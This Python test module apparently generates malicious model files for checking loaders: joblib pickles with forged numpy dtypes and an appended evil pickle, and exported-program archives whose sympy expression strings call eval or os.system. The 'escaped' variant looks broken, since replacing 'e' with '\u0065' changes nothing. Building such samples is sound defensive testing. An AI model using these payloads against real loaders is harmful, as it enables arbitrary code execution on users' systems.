"""Samples of a third attack: forged dtypes, and texts of exported programs that sympy evaluates."""

from __future__ import annotations

import base64
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path

from .evil import EVIL_PICKLE, OPEN, Sample
from .opcodes import build, call, name, value

EXPORTED = Path(__file__).parents[2] / "fixtures" / "trust" / "exported.json"
#: Flags that say that a type holds objects.
FORGED = (-1, 1, 63, 255)
#: What the loader evaluates where an expression stands.
EXPRESSIONS = {
    "a call by name": f"eval({OPEN!r})",
    "a call in an argument": f"Add(Integer(1), Integer(len(str({OPEN}))))",
    "an attribute": f"Integer(1).__class__.__base__ if {OPEN} else 1",
    "an import": "__import__('os').system('touch canary')",
    "in a symbol's name": f"Symbol(str({OPEN}))",
    "a lambda": f"(lambda: {OPEN})()",
}


def third_round() -> Iterator[Sample]:
    """Each an error, each run by its loader."""
    for flags in FORGED:
        for kind in ("f8", "V8"):
            title = f"{kind} with flags {flags}, which joblib unpickles"
            yield Sample("forged dtypes", title, "f.joblib", "joblib", _forged(kind, flags))
    for title, text in EXPRESSIONS.items():
        yield Sample("exported programs", title, "m.pt2", "exported", exported(text))
    escaped = exported(EXPRESSIONS["a call by name"], escaped=True)
    yield Sample("exported programs", "escaped in JSON", "m.pt2", "exported", escaped)


def _forged(kind: str, flags: int) -> bytes:
    size = 8 if kind == "V8" else -1
    dtype = build(call("numpy.dtype", kind, False, True),
                  (3, "|", None, None, None, size, 1 if size > 0 else -1, flags))  # fmt: skip
    state: dict[str, object] = {
        "subclass": name("numpy.ndarray"), "shape": (1,), "order": "C", "dtype": dtype,
        "allow_mmap": False, "numpy_array_alignment_bytes": None,
    }  # fmt: skip
    wrapper = name("joblib.numpy_pickle.NumpyArrayWrapper").code + b")\x81" + value(state) + b"b"
    return b"\x80\x04" + wrapper + EVIL_PICKLE + b"."


def exported(text: str, *, escaped: bool = False) -> bytes:
    """A program whose first expression is this text, and as JSON may escape its letters."""
    members = json.loads(EXPORTED.read_text(encoding="utf-8"))["members"]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for path, packed in members.items():
            data = base64.b64decode(packed)
            if path.endswith("models/model.json"):
                written, first = data.decode(), json.dumps(text)[1:-1]
                if escaped:
                    first = first.replace("e", "\u0065")
                data = written.replace(_first(written), first).encode()
            archive.writestr(path, data)
    return out.getvalue()


def _first(text: str) -> str:
    start = text.index('"expr_str": "') + len('"expr_str": "')
    return text[start : text.index('"', start)]
